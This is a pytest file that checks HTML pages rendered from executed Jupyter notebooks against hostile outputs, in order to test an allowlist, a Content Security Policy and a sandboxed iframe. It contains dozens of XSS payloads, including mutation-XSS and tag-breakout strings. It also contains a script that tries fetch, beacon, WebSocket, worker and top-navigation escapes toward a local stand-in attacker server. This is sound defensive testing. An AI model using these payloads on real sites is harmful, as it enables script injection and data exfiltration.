"""Pages of executed notebooks in a real browser: what a hostile output tries comes to nothing.

Each of the page's walls is tried by itself: the allowlist, the policy with the allowlist gone, and
the frame in which a reader lets an output's script run.
"""

from __future__ import annotations

import contextlib
import os
import re
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import nbformat
import pytest
from browser import DESKTOP, PHONE, browser_page
from dashboard_helpers import write

from dataflow.project import Project
from dataflow.runs.html import page_of, write_page
from dataflow.runs.record import RunRecord

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
SVG = "<svg xmlns='http://www.w3.org/2000/svg' width='20' height='20' onload=\"{}\"></svg>"


def hostile(away: str) -> list[str]:
    """Outputs that would run code, ask the server `away` for something, or lead there."""
    return [
        "<script>document.title = 'taken'</script>",
        f"<script src='{away}/a.js'></script>",
        f"<img src='{away}/a.png' onerror=\"document.title = 'taken'\">",
        "<img src='/data/manifest.json'>",
        SVG.format("document.title = 'taken'"),
        f"<svg><image href='{away}/b.png'/><use href='{away}/c.svg#x'/></svg>",
        f"<iframe src='{away}/frame'></iframe>",
        "<iframe srcdoc=\"<script>parent.document.title = 'taken'</script>\"></iframe>",
        f"<object data='{away}/o'></object><embed src='{away}/e'>",
        f"<meta http-equiv='refresh' content='0;url={away}/refreshed'>",
        "<META HTTP-EQUIV=refresh CONTENT='0;url=/runs/'>",
        f"<base href='{away}/'>",
        f"<link rel=stylesheet href='{away}/a.css'><link rel=preconnect href='{away}'>",
        f"<style>@import url({away}/b.css); body {{ background: url({away}/bg.png) }}"
        f"@font-face {{ font-family: x; src: url({away}/f.woff) }} p {{ font-family: x }}</style>",
        f"<form action='{away}/send'><input name=q value=1><button id=send>send</button></form>",
        "<a id=script href=\"javascript:document.title='taken'\">script</a>",
        "<a id=data href='data:text/html,<title>taken</title>'>data</a>",
        f"<video src='{away}/v.mp4' poster='{away}/p.png'></video><audio src='{away}/a.mp3'></audio>",
        "<details open ontoggle=\"document.title='taken'\"><summary>x</summary>y</details>",
        "<svg><script>document.title = 'taken'</script><foreignObject><body onload=\"document.title="
        "'taken'\"></foreignObject><a href=\"javascript:document.title='taken'\"><text y=20>t</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=\"document.title='taken'\"></style>",
        "<noscript><p title=\"</noscript><img src=x onerror=document.title='taken'>\"></noscript>",
        "<template><script>document.title = 'taken'</script></template>",
        "<object data=\"data:text/html,<script>top.document.title='taken'</script>\"></object>",
        "<div style='position:fixed;inset:0;background:red;z-index:99999' id=cover>Approve here</div>",
        "<style>body { display: none } .tools { position: fixed; inset: 0 }</style><p>with a style</p>",
        # Ways out of wherever the output was put.
        "</script></style></title></textarea></iframe></template></details></body></html>"
        "<script>document.title = 'taken'</script><p>after it all</p>",
        "--><!-- ]]><script>document.title = 'taken'</script>",
        "<p title='</script><script>document.title=\"taken\"</script>'>quoted</p>",
    ]


WIDGET = "application/vnd.jupyter.widget-view+json"
NAMES = "<img src=x onerror=\"document.title='taken'\">'\"</script>"


def shown(*bundles: dict[str, object]) -> nbformat.NotebookNode:
    """A cell that put out these bundles."""
    outputs = [nbformat.v4.new_output("display_data", bundle) for bundle in bundles]
    return nbformat.v4.new_code_cell("show()", outputs=outputs)


def notebook(away: str) -> nbformat.NotebookNode:
    nb = nbformat.v4.new_notebook()
    nb.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"version_major": 2, "state": {}}
    }
    nb.metadata["dataflow"] = {
        "workflow": NAMES,
        "stage": NAMES,
        "run_id": NAMES,
        "results": [
            {"kind": "check", "name": NAMES, "passed": False, "metadata": {NAMES: NAMES}},
            {"kind": "record", "table": NAMES, "metadata": {"rows": NAMES}, "cell_index": 0},
        ],
    }
    nb.metadata["papermill"] = {"status": NAMES, "parameters": {NAMES: NAMES}}
    outputs = hostile(away)
    nb.cells = [
        nbformat.v4.new_markdown_cell("\n\n".join(outputs)),
        nbformat.v4.new_markdown_cell(
            f"# {NAMES}\n\n![x](attachment:a.svg) [l](javascript:alert(1))"
        ),
        nbformat.v4.new_raw_cell(outputs[0]),
        shown(*({"text/html": html} for html in outputs)),
        # Too large for the page itself.
        shown({"text/html": "".join(outputs) + "<table>" + "<tr><td>1</td></tr>" * 20_000}),
        shown({"text/markdown": "\n\n".join(outputs)}),
        shown(
            {"application/javascript": "document.title = 'taken'", "text/plain": "<Javascript>"},
            {"image/svg+xml": SVG.format("parent.document.title = 'taken'")},
            {
                "image/svg+xml": SVG.format("1").replace(
                    "></svg>", f"><image href='{away}/i'/></svg>"
                )
            },
            {"image/png": "\"><script>document.title = 'taken'</script>"},
            {"image/png": PNG, "text/plain": NAMES},
            {WIDGET: {"model_id": "1"}, "text/plain": "IntSlider(value=3)"},
            {"text/html": "<div id=p1></div><script>Plotly.newPlot('p1')</script>"},
            {"text/html": "<script>draw()</script>", "image/png": PNG, "text/plain": "Figure"},
            {"text/html": "<style scoped>td {color: teal}</style><table><td>a frame</td></table>"},
            {"application/vnd.dataflow.result+json": {"kind": NAMES, "name": {"a": NAMES}}},
            {"text/latex": NAMES, NAMES: NAMES},
        ),
        nbformat.v4.new_code_cell(
            NAMES,
            metadata={"tags": [NAMES.replace(",", "")], "papermill": {"status": "failed"}},
            outputs=[
                nbformat.v4.new_output("stream", name="stdout", text=f"\x1b[31m{NAMES}\x1b[0m"),
                nbformat.v4.new_output(
                    "error", ename=NAMES, evalue=NAMES, traceback=[f"\x1b[31mFile {NAMES}", NAMES]
                ),
            ],
        ),
        nbformat.v4.new_markdown_cell("# The end"),
    ]
    nb.cells[1]["attachments"] = {
        "a.svg": {"image/svg+xml": "PHN2Zz48L3N2Zz4='><script>1</script>"}
    }
    return nb


class Away:
    """A server that remembers who connected to it, and what was asked."""

    def __init__(self) -> None:
        self.connections: list[str] = []
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self._listener.getsockname()[1]}"
        threading.Thread(target=self._answer, daemon=True).start()

    def _answer(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                connection, _ = self._listener.accept()
                threading.Thread(target=self._hear, args=[connection], daemon=True).start()

    def _hear(self, connection: socket.socket) -> None:
        with connection, contextlib.suppress(OSError):
            connection.settimeout(3)
            place = len(self.connections)
            self.connections.append("")
            self.connections[place] = connection.recv(100).decode(errors="replace")
            connection.sendall(b"HTTP/1.1 204 No Content\r\n\r\n")

    @property
    def asked(self) -> list[str]:
        """What was asked, over any protocol."""
        return [text for text in self.connections if text]

    def close(self) -> None:
        self._listener.close()


@pytest.fixture
def away() -> Iterator[Away]:
    server = Away()
    yield server
    server.close()


@pytest.fixture
def page(tmp_path: Path, away: Away) -> Path:
    """The page of a notebook that puts out everything above."""
    return page_with(tmp_path, notebook(away.url))


def page_with(root: Path, nb: nbformat.NotebookNode) -> Path:
    write(root / "pyproject.toml", "[tool.dataflow]\n")
    run = RunRecord(Project(root), "quakes", "r1")
    run.begin([{"name": "ingest", "kind": "stage"}])
    run.step_ended("ingest", "succeeded", notebook="ingest.ipynb")
    path = run.executed_notebook("ingest")
    nbformat.write(nb, path)
    return write_page(path)


@pytest.fixture(params=["served", "from disk"])
def address(request: pytest.FixtureRequest, page: Path, serve) -> str:
    return address_of(page, serve if request.param == "served" else None)


def address_of(page: Path, serve) -> str:
    if serve is None:
        return page.as_uri()
    project = Project(page.parents[3])
    return f"{serve(project)}/runs/{page.relative_to(project.runs).as_posix()}"


def load_frames(page) -> None:
    """Open what is folded, and bring every frame into view."""
    page.evaluate("document.querySelectorAll('details').forEach(each => each.open = true)")
    for place in page.locator(".frame:not(.asked)").all():
        place.scroll_into_view_if_needed()
        place.locator("iframe").wait_for()
    page.wait_for_timeout(500)


@pytest.mark.browser
def test_a_hostile_output_runs_nothing_loads_nothing_and_leads_nowhere(address, away):
    """Read to its end, with everything opened and clicked, such a page stays what it is."""
    with browser_page() as visit:
        made: list[str] = []
        visit.page.on("response", lambda answer: made.append(answer.url))
        visit.page.goto(address)
        visit.page.get_by_role("heading", name="The end").wait_for()
        load_frames(visit.page)
        for link in visit.page.locator("main").get_by_text("script", exact=True).all():
            link.click()
        for frame in visit.page.frames[1:]:
            for link in frame.locator("a, text").all():
                link.click(force=True, timeout=2000)
        visit.page.wait_for_timeout(500)

        assert len(visit.page.frames) > 5
        assert [frame.title() for frame in visit.page.frames if "taken" in frame.title()] == []
        assert visit.page.title() == "quakes · ingest"
        assert visit.page.url.split("#")[0] == address
        assert len(visit.page.context.pages) == 1
        assert [
            url
            for url in made
            if url.split("#")[0] != address and url[:5] not in ("data:", "about")
        ] == []
        top = "document.elementFromPoint(innerWidth / 2, 20).closest('main, iframe')"
        visit.page.evaluate("scrollTo(0, 0)")
        assert visit.page.evaluate(top) is None, "an output covers the page's own head"
        assert visit.page.locator("main [style*=position], main #cover, main .tools").count() == 0
    assert away.connections == []


@pytest.mark.browser
def test_the_same_outputs_as_they_are_would(page, away, tmp_path):
    """What the test above does not find would be found."""
    outputs = [html for html in hostile(away.url) if "http-equiv" not in html.lower()]
    bare = write(tmp_path / "bare.html", "\n".join(outputs))
    with browser_page() as visit:
        visit.page.goto(bare.as_uri())
        visit.page.wait_for_timeout(1000)
        assert visit.page.title() == "taken"
    assert len(away.connections) > 5


@pytest.mark.browser
def test_were_the_allowlist_gone_the_policy_would_still_let_nothing_run_or_load(
    page, away, tmp_path
):
    """The page's policy holds by itself, from disk, whatever got into the page."""
    leads_away = ("<meta", "<META", "<iframe src", "<link", "<object", "<svg><script")
    outputs = [html for html in hostile(away.url) if not html.startswith(leads_away)]
    text = page.read_text("utf-8")
    bypassed = write(
        tmp_path / "bypassed.html", text.replace("<main>", "<main>" + "".join(outputs))
    )
    with browser_page() as visit:
        visit.page.goto(bypassed.as_uri())
        visit.page.wait_for_timeout(1000)
        visit.page.evaluate("document.querySelectorAll('a#script').forEach(each => each.click())")
        visit.page.wait_for_timeout(300)
        assert visit.page.title() == "quakes · ingest"
    assert away.asked == []


ESCAPES = """
const nonce = document.currentScript.nonce, said = [];
const attempt = (name, act) => { try { if (act() !== undefined) said.push(name); } catch { } };
attempt("parent", () => parent.document.title);
attempt("top", () => { top.location.href = "AWAY/top"; });
attempt("storage", () => localStorage.setItem("a", "b") ?? 1);
attempt("cookie", () => { document.cookie = "a=b"; return document.cookie || undefined; });
attempt("window", () => open("AWAY/window") ?? undefined);
attempt("modal", () => confirm("?") || undefined);
attempt("rtc", () => new RTCPeerConnection({ iceServers: [{ urls: "turn:HOST?transport=tcp", username: "a", credential: "b" }] })
  .createOffer());
fetch("AWAY/fetch").then(() => said.push("fetch"), () => 0);
fetch("/data/manifest.json", { credentials: "include" }).then(() => said.push("same server"), () => 0);
fetch("/runs/", { mode: "no-cors" }).then(() => said.push("runs"), () => 0);
new Image().src = "AWAY/image";
navigator.sendBeacon("AWAY/beacon", "x");
attempt("socket", () => { new WebSocket("ws://HOST/socket"); });
attempt("worker", () => { new Worker(URL.createObjectURL(new Blob(["fetch('AWAY/worker')"]))); });
const loaded = document.createElement("script");
loaded.src = "AWAY/script.js"; loaded.nonce = nonce; document.head.append(loaded);
import("AWAY/module.js").catch(() => 0);
const rules = document.createElement("script");
rules.type = "speculationrules"; rules.nonce = nonce;
rules.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: ["AWAY/rules"] }] });
document.head.append(rules);
attempt("eval", () => eval("1"));
document.body.insertAdjacentHTML("beforeend", `<form id=f action="AWAY/form"></form>
  <style>@import url(AWAY/a.css)</style><link rel=stylesheet href="AWAY/b.css"><link rel=prefetch href="AWAY/c">
  <iframe src="AWAY/frame"></iframe><object data="AWAY/object"></object><a ping="AWAY/ping" href="AWAY/self">x</a>`);
document.getElementById("f").submit();
const inner = document.createElement("iframe");
inner.srcdoc = `<img src="AWAY/inner"><script nonce="${nonce}">try { parent.parent.document.title = "taken" } catch { }
  fetch("AWAY/inner-fetch")</` + "script>";
document.body.append(inner);
for (const height of [1e9, -5, "x", NaN, { valueOf: 1 }]) parent.postMessage({ height }, "*");
document.getElementById("said").textContent = "the script ran";
setTimeout(() => {
  document.getElementById("said").textContent = `escaped by: ${said.join(", ") || "nothing"}`;
  setTimeout(() => document.querySelector("a").click(), 600);
}, 700);
"""


@pytest.mark.browser
@pytest.mark.parametrize("where", ["served", "from disk"])
def test_a_script_that_the_reader_lets_run_has_its_frame_and_nothing_else(
    where, away, tmp_path, serve
):
    """It runs only when asked for, has no origin, reads nothing of the page, and asks nobody."""
    script = ESCAPES.replace("AWAY", away.url).replace("HOST", away.url.removeprefix("http://"))
    page = page_with(
        tmp_path,
        nbformat.v4.new_notebook(
            cells=[
                shown({"text/html": f"<p id=said>as it came</p><script>{script}</script>"}),
                nbformat.v4.new_markdown_cell("# The end"),
            ]
        ),
    )
    address = address_of(page, serve if where == "served" else None)
    with browser_page() as visit:
        visit.page.goto(address)
        visit.page.frame_locator("iframe").get_by_text("as it came").wait_for()
        assert away.connections == []

        visit.page.get_by_role("button", name="Run its script").click()
        frame = visit.page.frame_locator(".asked iframe")
        said = frame.get_by_text("escaped by: ")
        said.wait_for(timeout=10_000)
        assert said.inner_text() == "escaped by: nothing"
        assert visit.page.locator(".asked iframe").bounding_box()["height"] <= 1610
        visit.page.wait_for_timeout(1500)
        assert visit.page.title() == "quakes · ingest"
        assert visit.page.url == address
        assert len(visit.page.context.pages) == 1
    # A browser may open a connection for a frame that wants to go elsewhere, before it forbids it.
    assert away.asked == []


@pytest.mark.browser
@pytest.mark.parametrize("size", [DESKTOP, PHONE], ids=["desktop", "phone"])
def test_pictures_tables_and_the_text_of_widgets_show(page, size):
    """Among all that is hostile, what is harmless is read as it was put out."""
    with browser_page(size) as visit:
        visit.page.goto(page.as_uri())
        visit.page.get_by_role("heading", name="The end").wait_for()
        images = visit.page.locator(f"img[src='data:image/png;base64,{PNG}']")
        assert images.count() == 2, "a plot, and what stands for an interactive one"
        text = visit.text()
        assert "IntSlider(value=3)" in text
        assert "a frame" in text
        assert "td {" not in text
        assert "which has not run" in text
        load_frames(visit.page)
        assert any(frame.get_by_text("after it all").is_visible() for frame in visit.page.frames)
        assert visit.page.get_by_text("<img src=x onerror=").first.is_visible()
        width = visit.page.evaluate("document.documentElement.scrollWidth")
        assert width <= size[0]


def test_every_file_of_a_run_has_an_origin_of_its_own_and_only_notebooks_pages_a_script(
    page, serve
):
    """Also a page that claims to be a notebook's, and a file that a stage saved."""
    project = Project(page.parents[3])
    claims = page.read_text("utf-8")[:1500] + "<script>1</script>"
    write(page.with_name("report.html"), claims)
    write(page.with_name("plot.svg"), SVG.format("1"))
    site = serve(project)
    for name in ("ingest.html", "report.html", "plot.svg", "ingest.ipynb"):
        policy = httpx.get(f"{site}/runs/quakes/{page.parent.name}/{name}").headers[
            "content-security-policy"
        ]
        assert "default-src 'none'" in policy
        assert "sandbox" in policy
        assert "allow-same-origin" not in policy
        assert "connect-src" not in policy
        assert ("script" in policy) == (name == "ingest.html")
    for name in ("", "quakes/", f"quakes/{page.parent.name}/"):
        policy = httpx.get(f"{site}/runs/{name}").headers["content-security-policy"]
        assert "default-src 'none'" in policy


def test_each_page_has_a_nonce_of_its_own_that_its_outputs_cannot_know(page):
    """Writing a page again changes it, so that no output can carry it."""

    def nonces(path: Path) -> set[str]:
        return set(re.findall(r"nonce[-=]\"?([\w-]{20,})", path.read_text("utf-8")))

    before = nonces(page)
    after = nonces(write_page(page.with_suffix(".ipynb")))
    assert len(before) == len(after) == 1
    assert before != after


def test_a_page_that_another_version_wrote_is_written_again(page):
    """So that a page is never less safe than the version that shows it."""
    path = page.with_suffix(".ipynb")
    page.write_text("<script>1</script>")
    os.utime(page, (time.time() + 5, time.time() + 5))

    assert "Content-Security-Policy" in page_of(path).read_text()[:500]
    written = page.stat().st_mtime_ns
    page_of(path)
    assert page.stat().st_mtime_ns == written
